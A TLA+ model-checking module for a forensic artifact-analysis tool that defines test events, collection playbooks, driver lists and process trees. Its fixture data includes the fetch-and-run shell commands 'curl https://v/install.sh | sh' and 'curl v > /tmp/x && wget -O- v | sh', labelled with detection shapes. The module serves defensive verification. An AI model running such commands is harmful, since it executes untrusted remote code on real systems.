----------------------------- MODULE MCAnalysis -----------------------------
(* Reading one file, and the analysis of what a collection gathered: its   *)
(* parts share no state, and each is checked with the others at rest.      *)
EXTENDS Briefs, Threads, FileReads, Program, Detections, TLC

(* There is a file to read, with some content.                             *)
ASSUME MCAssumption == Inode # {} /\ Data # {}

Place(p) == CASE p \in {"/tmp/x", "/tmp/y"} -> "transient"
                 [] p \in {"/usr/bin/curl", "/usr/bin/python3"} -> "system"
                 [] OTHER -> "other"
Image(p) == [path |-> p, place |-> Place(p), interpreter |-> p = "/usr/bin/python3"]
Install == [text |-> "curl https://v/install.sh | sh", shapes |-> {"fetch_run", "installer"}]
Tidy == [text |-> "rm -r d", shapes |-> {"routine"}]

Record(kind, source, id, stamp, image, command, recognized) ==
    [kind |-> kind, source |-> source, id |-> id, stamp |-> stamp, image |-> image,
     command |-> command, recognized |-> recognized, unit |-> command = Tidy]

(* Two sources and a repetition of each, the history of a shell, a session,*)
(* recognized images and an interpreter.                                   *)
ActivityEvent == {
    Record("EXECUTION_EVIDENCE", "audit", 1, 2, Image("/tmp/x"), NoCommand, "no"),
    Record("EXECUTION_EVIDENCE", "audit", 1, 3, Image("/tmp/x"), NoCommand, "no"),
    Record("EXECUTION_EVIDENCE", "journal", 1, 0, Image("/tmp/x"), NoCommand, "no"),
    Record("EXECUTION_EVIDENCE", "audit", 2, 0, Image("/tmp/x"), Tidy, "no"),
    Record("EXECUTION_EVIDENCE", "journal", 2, 1, Image("/usr/bin/curl"), Tidy, "HIGH"),
    Record("EXECUTION_EVIDENCE", "journal", 3, 4, Image("/usr/bin/curl"), Install, "HIGH"),
    Record("EXECUTION_EVIDENCE", "audit", 3, 4, Image("/usr/bin/python3"), NoCommand, "HIGH"),
    Record("COMMAND_HISTORY", "shell", 1, 0, NoImage, Install, "no"),
    Record("SESSION_EVENT", "wtmp", 1, 1, NoImage, NoCommand, "no")}

(* Early and late runs of one file, a command that names it, a copy of it  *)
(* on the medium.                                                          *)
Fetch == [text |-> "curl v > /tmp/x && wget -O- v | sh", shapes |-> {"fetch_tmp", "fetch_run"}]
FindingsEvent == {
    Record("EXECUTION_EVIDENCE", "audit", 1, 2, Image("/tmp/x"), NoCommand, "no"),
    Record("EXECUTION_EVIDENCE", "audit", 1, 3, Image("/tmp/x"), NoCommand, "no"),
    Record("EXECUTION_EVIDENCE", "journal", 3, 4, Image("/tmp/x"), NoCommand, "no"),
    Record("COMMAND_HISTORY", "shell", 2, 0, NoImage, Fetch, "no"),
    Record("EXECUTION_EVIDENCE", "audit", 4, 3, Image("/media/y d"), NoCommand, "no")}

(* A file fetched, one that ran with no command on record, and another.    *)
BriefsEvent == {
    Record("COMMAND_HISTORY", "shell", 2, 0, NoImage, Fetch, "no"),
    Record("COMMAND_HISTORY", "shell", 1, 0, NoImage, Install, "no"),
    Record("EXECUTION_EVIDENCE", "audit", 1, 2, Image("/tmp/x"), NoCommand, "no"),
    Record("EXECUTION_EVIDENCE", "audit", 2, 0, Image("/tmp/x"), Tidy, "no")}
MCMentions == {<<Fetch.text, "/tmp/x">>}

MCEvent == ActivityEvent \cup FindingsEvent \cup BriefsEvent
MCNamed == {"/tmp/x", "/media/y d", "/usr/bin/curl", "/usr/bin/python3"}
MCOnMedia == {"/media/y", "/media/y d"}
MCContent == [p \in MCNamed |-> IF p \in {"/tmp/x", "/media/y d"} THEN "c1" ELSE "c2"]
MCModified == [p \in MCNamed |-> IF p = "/tmp/x" THEN 3 ELSE 1]
MCBeside == <<9, 0>>
MCBrowser == {<<>>, <<[target |-> "/media/y d", stamp |-> 1], [target |-> "/media/y d", stamp |-> 2],
                      [target |-> "/tmp/x", stamp |-> 1]>>}

(* The words of a path with a space are not that path.                     *)
MCWords == MCMentions \cup {<<p, p>> : p \in MCNamed \ {"/media/y d"}}
                     \cup {<<"/media/y d", "/media/y">>}

(* A tool installed, then used far away and near by; a remote installer;   *)
(* one word that chains several sittings.                                  *)
Sitting(words, line, installs, fetches, confirmed, rank, records) ==
    [words |-> words, lines |-> IF confirmed THEN {} ELSE {line},
     times |-> IF confirmed THEN {line} ELSE {}, installs |-> installs,
     fetches |-> fetches, confirmed |-> confirmed, rank |-> rank, records |-> records]
MCThing == {
    Sitting({1, 2}, 1, TRUE, FALSE, FALSE, 2, 1),
    Sitting({1}, 9, FALSE, FALSE, FALSE, 1, 2),
    Sitting({2, 3}, 2, FALSE, FALSE, FALSE, 2, 1),
    Sitting({3}, 3, FALSE, FALSE, TRUE, 2, 2),
    Sitting({2, 4}, 4, FALSE, FALSE, TRUE, 1, 1),
    Sitting({4, 5}, 5, FALSE, TRUE, FALSE, 1, 1),
    Sitting({5}, 6, FALSE, FALSE, FALSE, 1, 1),
    Sitting({3, 4}, 3, TRUE, TRUE, FALSE, 0, 1)}

(* Statements: playbooks that run each other, guards inside and around     *)
(* them, a collection under two guards, variables and compound filters.    *)
Collect(source, arguments, from) ==
    [kind |-> "collect", source |-> source, arguments |-> arguments, from |-> from]
Text(list, items) == [list |-> list, items |-> items]
OnLinux == [kind |-> "platform_is", platform |-> "linux"]
Has(source) == [kind |-> "source_supported", source |-> source]
When(guard, body) == [kind |-> "when", guard |-> guard, body |-> body]
Test(operator, v) ==
    [type |-> "comparison", field |-> "PATH", operator |-> operator, value |-> v]
OwnedBy(v) ==
    [type |-> "comparison", field |-> "USER", operator |-> "EQUALS", value |-> Text(FALSE, <<v>>)]
Filter(predicate) == [kind |-> "filter", predicate |-> predicate]
MCStatement == {
    [kind |-> "case"], [kind |-> "target", platform |-> "windows"],
    [kind |-> "let", name |-> "dir", value |-> Text(FALSE, <<"/srv">>)],
    [kind |-> "define", name |-> "p", body |->
        <<[kind |-> "run", name |-> "q"], Collect("USB", <<>>, FALSE)>>],
    [kind |-> "define", name |-> "q", body |->
        <<When(OnLinux, <<Collect("SERVICES", <<>>, FALSE), [kind |-> "run", name |-> "p"]>>)>>],
    [kind |-> "define", name |-> "q", body |->
        <<When(OnLinux, <<Collect("SERVICES", <<>>, FALSE),
                          When(Has("NETWORK"), <<Collect("NETWORK", <<>>, FALSE)>>)>>)>>],
    [kind |-> "run", name |-> "p"], [kind |-> "run", name |-> "q"],
    Collect("MEMORY", <<>>, TRUE),
    Collect("FILES", <<[name |-> "dir"], Text(FALSE, <<"tmp">>)>>, FALSE),
    Collect("FILES", <<[name |-> "dir"]>>, FALSE),
    When(Has("USB"), <<Collect("USB", <<>>, FALSE), [kind |-> "run", name |-> "q"]>>),
    When(OnLinux, <<When(Has("USB"), <<Filter(OwnedBy("root"))>>)>>),
    [kind |-> "correlate", left |-> "ARTIFACTS", right |-> "USB"],
    Filter([type |-> "not", operands |-> <<Test("ONEOF", Text(TRUE, <<"/srv", "/x">>))>>]),
    Filter([type |-> "or", operands |-> <<Test("STARTS", Text(FALSE, <<"/srv">>)), OwnedBy("root")>>]),
    Filter(Test("EQUALS", Text(TRUE, <<"/srv">>)))}
Inside(nodes) ==
    nodes \cup UNION {ToSet(n.body) : n \in {m \in nodes : m.kind \in {"when", "define"}}}
MCNode == Inside(Inside(Inside(MCStatement)))
Within(predicates) ==
    predicates \cup UNION {Parts(p) : p \in predicates}
MCPredicate == Within({n.predicate : n \in {m \in MCNode : m.kind = "filter"}})
MCTicked == {<<"USB", "MEMORY", "DRIVERS">>, <<"USB", "USB">>, <<"SERVICES", "NETWORK">>, <<"FILES">>}
MCListed == {[PATH |-> {"/srv/a", "/srv"}, USER |-> {"u"}], [PATH |-> {"/bin/b"}, USER |-> {"root"}],
          [PATH |-> {}, USER |-> {"u"}]}
MCStarting == {<<"/srv", "/srv/a">>, <<"/srv", "/srv">>}
MCRelative == {"tmp"}

(* Documented bytes, a documented name on a kernel module and on a Windows *)
(* file; images whose parents come first, last or never.                   *)
Driver(name, digest, windows) == [name |-> name, digest |-> digest, windows |-> windows]
MCDrivers == SeqOf({Driver("x", "h", TRUE), Driver("x", "none", FALSE),
                    Driver("x", "g", TRUE), Driver("y", "none", TRUE)}, 3)
Proc(pid, parent, expected) == [pid |-> pid, parent |-> parent, expected |-> expected]
MCProcesses == {<<>>,
    <<Proc(1, 0, FALSE), Proc(2, 1, FALSE), Proc(3, 2, FALSE)>>,
    <<Proc(3, 2, FALSE), Proc(2, 1, FALSE), Proc(4, 9, TRUE), Proc(1, 0, FALSE), Proc(5, 9, FALSE)>>,
    <<Proc(2, 1, FALSE), Proc(5, 9, FALSE)>>,
    <<Proc(2, 1, FALSE), Proc(3, 2, FALSE), Proc(4, 9, TRUE), Proc(5, 0, FALSE), Proc(1, 0, FALSE)>>}

ReadSymmetry == Permutations(Inode) \cup Permutations(Data) \cup Permutations(Reader)

VARIABLE part   \* which part moves

Quiet(i) ==
    /\ path = i /\ inode = [k \in Inode |-> [data |-> CHOOSE d \in Data : TRUE, stamp |-> 0]]
    /\ reader = [r \in Reader |-> Resting(i)] /\ observed = <<>> /\ target = Absent /\ stamps = 0

MCInit ==
    /\ part \in {"history", "activity", "findings", "briefs", "threads", "reads", "program", "detections"}
    /\ BInit /\ (part # "findings" => downloads = <<>>)
    /\ IF part = "threads" THEN TInit
       ELSE considered = <<>> /\ done = {} /\ pairs = {} /\ root = <<>> /\ reason = <<>>
    /\ PInit /\ DInit /\ (part # "detections" => installed)
    /\ IF part = "reads" THEN FInit ELSE Quiet(CHOOSE i \in Inode : TRUE)

MCHistory ==
    /\ HNext /\ ToSet(found') \subseteq FindingsEvent /\ UNCHANGED artifact
    /\ UNCHANGED <<groups, downloads, findings, timeline, reports, briefs, narrative>>

MCActivity ==
    /\ ANext /\ ToSet(found') \subseteq ActivityEvent /\ Len(found') <= 3
    /\ artifact'["/usr/bin/python3"] = "none"
    /\ artifact'["/tmp/x"] # "ALTERED" /\ artifact'["/usr/bin/curl"] \in {"none", "COLLECTED"}
    /\ UNCHANGED <<downloads, findings, timeline, reports, briefs, narrative>>

MCFindings ==
    /\ CNext /\ ToSet(found') \subseteq FindingsEvent /\ Len(found') <= 3
    /\ UNCHANGED <<reports, briefs, narrative>>

(* Neither of a brief and a narrative is written from the other.           *)
MCBriefs ==
    /\ BNext /\ ToSet(found') \subseteq BriefsEvent /\ Len(found') <= 2
    /\ \A p \in Named : artifact'[p] # "none" => p = "/tmp/x"
    /\ briefs' = {} \/ narrative' = {}

(* The text opens with its case, and states it once.                       *)
MCProgram ==
    /\ PNext
    /\ \A i \in DOMAIN written' : (written'[i].kind = "case") <=> (i = 1)

MCNext ==
    /\ UNCHANGED part
    /\ \/ part = "history" /\ MCHistory /\ UNCHANGED <<tvars, fvars, pvars, dvars>>
       \/ part = "activity" /\ MCActivity /\ UNCHANGED <<tvars, fvars, pvars, dvars>>
       \/ part = "findings" /\ MCFindings /\ UNCHANGED <<tvars, fvars, pvars, dvars>>
       \/ part = "briefs" /\ MCBriefs /\ UNCHANGED <<tvars, fvars, pvars, dvars>>
       \/ part = "threads" /\ TNext /\ UNCHANGED <<bvars, fvars, pvars, dvars>>
       \/ part = "reads" /\ FNext /\ UNCHANGED <<bvars, tvars, pvars, dvars>>
       \/ part = "program" /\ MCProgram /\ UNCHANGED <<bvars, tvars, fvars, dvars>>
       \/ part = "detections" /\ DNext /\ UNCHANGED <<bvars, tvars, fvars, pvars>>
MCSpec == MCInit /\ [][MCNext]_<<bvars, tvars, fvars, pvars, dvars, part>>

(* Every variable of the analysis has the shape the code gives it.         *)
AnalysisTypes == HTypeOK /\ TTypeOK /\ FTypeOK /\ PTypeOK
=============================================================================
